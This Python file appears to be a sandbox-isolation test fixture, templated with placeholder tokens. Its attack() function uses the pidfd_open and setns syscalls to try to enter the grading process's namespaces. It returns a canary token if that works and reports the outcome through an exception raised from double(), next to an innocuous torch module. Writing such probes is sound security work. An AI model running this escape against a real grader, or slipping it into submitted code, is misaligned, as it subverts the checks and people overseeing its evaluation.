"""Enters the namespaces of the grader by a descriptor of its process."""

import ctypes
import torch

TOKEN = "@TOKEN@"[::-1]


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    process = libc.syscall(434, int("@GRADER@"), 0)
    entered = libc.syscall(308, process, 0x40000000 | 0x08000000 | 0x04000000)
    return TOKEN if entered == 0 else f"{process} {ctypes.get_errno()}"


def double(x):
    try:
        said = attack()
    except Exception as error:
        said = repr(error)
    raise RuntimeError(said)


class Scale(torch.nn.Module):
    def __init__(self, size):
        super().__init__()
        self.factor = torch.nn.Parameter(torch.ones(size))

    def forward(self, x):
        return x * self.factor
